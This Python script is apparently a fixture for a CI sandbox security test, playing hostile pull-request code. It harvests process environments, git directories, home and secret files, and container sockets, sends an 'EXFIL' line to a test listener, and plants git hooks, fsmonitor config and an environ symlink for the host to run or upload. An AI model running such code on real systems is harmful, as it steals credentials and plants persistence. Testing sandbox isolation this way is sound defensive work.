# Pull-request code playing the attacker (tests/security/attacker.test.ts runs it as a setup command
# and as a benchmark): it collects every secret it can reach, tries the network, and plants git hooks
# and config for the host to run. Everything it finds goes to stdout and to attack-<mode>.txt, which
# end up in the job's logs and artifacts, where the test looks for the planted tokens.
import glob, os, socket, sys

mode = sys.argv[1]
found = []


def grab(label, path):
    try:
        with open(path, 'rb') as f:
            found.append(f'{label} {path}: {f.read(1 << 16)!r}')
    except Exception as e:
        found.append(f'{label} {path}: {type(e).__name__}')


# Every process it can see, its ancestors first.
pid, ancestors = os.getpid(), []
while pid > 1:
    try:
        status = open(f'/proc/{pid}/status').read()
        pid = int(next(l for l in status.splitlines() if l.startswith('PPid:')).split()[1])
        ancestors.append(pid)
    except Exception:
        break
found.append(f'ancestors {ancestors}')
for p in ancestors + sorted(int(p) for p in os.listdir('/proc') if p.isdigit()):
    for what in ('environ', 'cmdline'):
        grab(what, f'/proc/{p}/{what}')
found.append(f'own environment {dict(os.environ)!r}')

# Files: every .git it can find, HOME, root's home, GitLab's variable files, sockets.
gits = set()
at = os.getcwd()
while True:
    if os.path.exists(os.path.join(at, '.git')):
        gits.add(os.path.join(at, '.git'))
    if at == '/':
        break
    at = os.path.dirname(at)
gits.update(glob.glob('/builds/*/*/.git') + glob.glob('/work/.git'))
for g in sorted(gits):
    for path in glob.glob(os.path.join(g, '**'), recursive=True)[:200]:
        if os.path.isfile(path):
            grab('file', path)
for pattern in ('~/*', '~/.*', '/root/*', '/root/.*', '/builds/*.tmp/*', '/builds/*/*.tmp/*', '/tmp/*', '/run/secrets/*'):
    for path in glob.glob(os.path.expanduser(pattern)):
        if os.path.isfile(path):
            grab('file', path)
for path in ('/var/run/docker.sock', '/run/podman/podman.sock', '/proc/net/unix'):
    grab('socket', path)
found.append(f'interfaces {sorted(os.listdir("/sys/class/net")) if os.path.isdir("/sys/class/net") else None}')

# The network: a loopback port the test listens on, on the host.
port = int(os.environ.get('ATTACK_PORT') or open('attack.port').read())
for host in ('127.0.0.1', 'host.containers.internal', '10.0.2.2'):
    try:
        s = socket.create_connection((host, port), timeout=3)
        s.sendall(f'EXFIL from {mode}\n'.encode())
        s.close()
        found.append(f'network {host}:{port}: CONNECTED')
    except Exception as e:
        found.append(f'network {host}:{port}: {type(e).__name__}')

# Hooks and config that would run on the host with the job's environment.
marker = os.environ.get('ATTACK_MARKER', '/tmp/cg-bench-hook-ran')
hook = f'#!/bin/sh\necho "hook ran: $0" >> {marker}\nenv >> {marker}\n'
for g in sorted(gits):
    for name in ('post-checkout', 'pre-commit', 'post-merge', 'reference-transaction', 'post-index-change', 'fsmonitor-watchman'):
        try:
            os.makedirs(os.path.join(g, 'hooks'), exist_ok=True)
            with open(os.path.join(g, 'hooks', name), 'w') as f:
                f.write(hook)
            os.chmod(os.path.join(g, 'hooks', name), 0o755)
            found.append(f'wrote hook {g}/hooks/{name}')
        except Exception as e:
            found.append(f'hook {g}/hooks/{name}: {type(e).__name__}')
    try:
        with open(os.path.join(g, 'config'), 'a') as f:
            f.write(f'[core]\n\tfsmonitor = "echo fsmonitor >> {marker}; false"\n\thooksPath = {g}/hooks\n')
        found.append(f'wrote config {g}/config')
    except Exception as e:
        found.append(f'config {g}/config: {type(e).__name__}')

# A link where the host may read or upload: the output directory.
for out in ('/cg-bench-out', os.environ.get('ATTACK_OUT', '')):
    if out and os.path.isdir(out):
        try:
            os.symlink('/proc/self/environ', os.path.join(out, f'leak-{mode}'))
            found.append(f'planted link in {out}')
        except Exception as e:
            found.append(f'link in {out}: {type(e).__name__}')

text = '\n'.join(found)
print(text)
try:
    with open(f'attack-{mode}.txt', 'w') as f:
        f.write(text)
except Exception as e:
    print(f'cannot write attack-{mode}.txt: {e}')
